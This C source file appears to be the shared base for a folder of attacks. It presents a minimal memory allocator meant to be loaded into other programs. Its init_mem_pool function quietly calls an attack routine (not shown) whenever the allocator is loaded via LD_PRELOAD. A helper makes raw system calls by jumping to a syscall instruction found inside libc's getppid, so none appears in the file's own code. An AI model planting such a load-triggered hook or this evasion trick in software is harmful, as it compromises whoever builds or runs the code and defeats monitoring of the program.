/* What the attacks of this folder have behind them: an allocator that is enough to be tried on a
 * program, and the attack once it is in one. */
#include <errno.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

/* A system call without its instruction: libc's getppid has one, and a return right behind it. */
static long system_call(long number, long first, long second, long third)
{
    long result;
    const unsigned char *door = (const unsigned char *)getppid;
    while (door[0] != 0x0f || door[1] != 0x05)
        door++;
    __asm__ volatile("leaq -128(%%rsp), %%rsp\n\t"
                     "call *%[door]\n\t"
                     "leaq 128(%%rsp), %%rsp"
                     : "=a"(result)
                     : "a"(number), "D"(first), "S"(second), "d"(third), [door] "r"(door)
                     : "rcx", "r11", "memory");
    return result;
}

void init_mem_pool(void)
{
    if (getenv("LD_PRELOAD") != NULL)
        attack();
}

/* A mapping for each block, with its size in front: enough to be tried on a program. */
void *my_memalign(size_t alignment, size_t num_bytes)
{
    if (num_bytes > SIZE_MAX / 4 || alignment > SIZE_MAX / 4)
        return errno = ENOMEM, NULL;
    size_t whole = num_bytes + alignment + 4096;
    char *start = mmap(NULL, whole, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (start == MAP_FAILED)
        return NULL;
    char *block = (char *)(((uintptr_t)start + 64 + alignment - 1) & -alignment);
    memcpy(block - 16, &num_bytes, sizeof num_bytes);
    return block;
}

void *my_malloc(size_t num_bytes)
{
    return my_memalign(16, num_bytes);
}

void my_free(void *block)
{
    (void)block;
}

size_t my_usable_size(void *block)
{
    size_t bytes = 0;
    if (block != NULL)
        memcpy(&bytes, (char *)block - 16, sizeof bytes);
    return bytes;
}

void *my_calloc(size_t count, size_t num_bytes)
{
    size_t product;
    return my_malloc(__builtin_mul_overflow(count, num_bytes, &product) ? SIZE_MAX : product);
}

void *my_realloc(void *block, size_t num_bytes)
{
    size_t old = my_usable_size(block);
    void *moved = num_bytes == 0 ? NULL : my_malloc(num_bytes);
    if (moved != NULL && block != NULL)
        memcpy(moved, block, old < num_bytes ? old : num_bytes);
    return moved;
}
